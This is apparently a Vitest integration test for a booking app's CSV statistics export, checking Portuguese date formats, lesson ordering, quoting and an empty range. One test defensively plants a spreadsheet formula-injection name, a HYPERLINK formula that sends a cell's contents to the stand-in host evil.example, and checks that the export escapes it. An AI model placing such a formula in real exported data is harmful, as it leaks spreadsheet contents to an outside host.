import { parse } from "csv-parse/sync";
import { beforeEach, describe, expect, it } from "vitest";
import { GET as exportStatistics } from "@/app/api/bookings/statistics/export/route";
import { callRoute } from "../../../test/call-route";
import { createAnimal, createUser } from "../../../test/db-helpers";
import { bookLessons } from "../../../test/lessons";
import { tokenFor } from "../../../test/sessions";

// The trainer's CSV of a range: one line per lesson, club dates dd/MM/yyyy and wall-clock times.

let trainerToken: string;
beforeEach(async () => {
  trainerToken = await tokenFor(await createUser({ role: "trainer" }));
});

describe("statistics export (integration)", () => {
  it("downloads the range's lessons in start order, as Portuguese spreadsheets read them", async () => {
    const ana = await createUser({ name: "Ana Silva", role: "student" });
    const carla = await createUser({ name: "Carla Sá; \"Kika\"", role: "external" });
    const bolt = await createAnimal({ userId: ana.id, name: "Bolt" });
    const kiko = await createAnimal({ userId: carla.id, name: "Kiko" });
    // Summer time until 25 October: 00:15 on 1 October is 30 September 23:15 in UTC.
    await bookLessons(kiko, "2026-10-26 18:00", "2026-10-01 00:15");
    await bookLessons(bolt, "2026-10-24 10:00", "2026-09-30 10:00", "2026-11-01 10:00");

    const response = await callRoute(exportStatistics, {
      token: trainerToken,
      path: "/api/bookings/statistics/export?start_date=2026-10-01&end_date=2026-10-31",
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="estatisticas-2026-10-01-a-2026-10-31.csv"');
    const rows = parse(response.text.replace(/^\uFEFF/, ""), { delimiter: ";", relax_column_count: true });
    expect(rows).toEqual([
      ["Documento interno, sem valor fiscal"],
      ["Data", "Dia da semana", "Início", "Fim", "Aluno", "Categoria", "Animal"],
      ["01/10/2026", "Quinta-feira", "00:15", "01:00", "Carla Sá; \"Kika\"", "Aluno Externo", "Kiko"],
      ["24/10/2026", "Sábado", "10:00", "10:45", "Ana Silva", "Aluno", "Bolt"],
      ["26/10/2026", "Segunda-feira", "18:00", "18:45", "Carla Sá; \"Kika\"", "Aluno Externo", "Kiko"],
    ]);
  });

  it("writes a name that a spreadsheet would run as a formula as text, with a leading '", async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B3,"Ver")';
    const eve = await createUser({ name: hyperlink, role: "student" });
    await bookLessons(await createAnimal({ userId: eve.id, name: "+Bolt" }), "2026-10-24 10:00");
    const response = await callRoute(exportStatistics, {
      token: trainerToken,
      path: "/api/bookings/statistics/export?start_date=2026-10-01&end_date=2026-10-31",
    });
    const rows = parse(response.text.replace(/^\uFEFF/, ""), { delimiter: ";", relax_column_count: true });
    expect(rows[2]).toEqual(["24/10/2026", "Sábado", "10:00", "10:45", `'${hyperlink}`, "Aluno", "'+Bolt"]);
  });

  it("writes only the header lines for a range without lessons", async () => {
    const response = await callRoute(exportStatistics, {
      token: trainerToken,
      path: "/api/bookings/statistics/export?start_date=2026-01-01&end_date=2026-01-31",
    });
    const rows = parse(response.text.replace(/^\uFEFF/, ""), { delimiter: ";", relax_column_count: true });
    expect(rows).toHaveLength(2);
  });
});
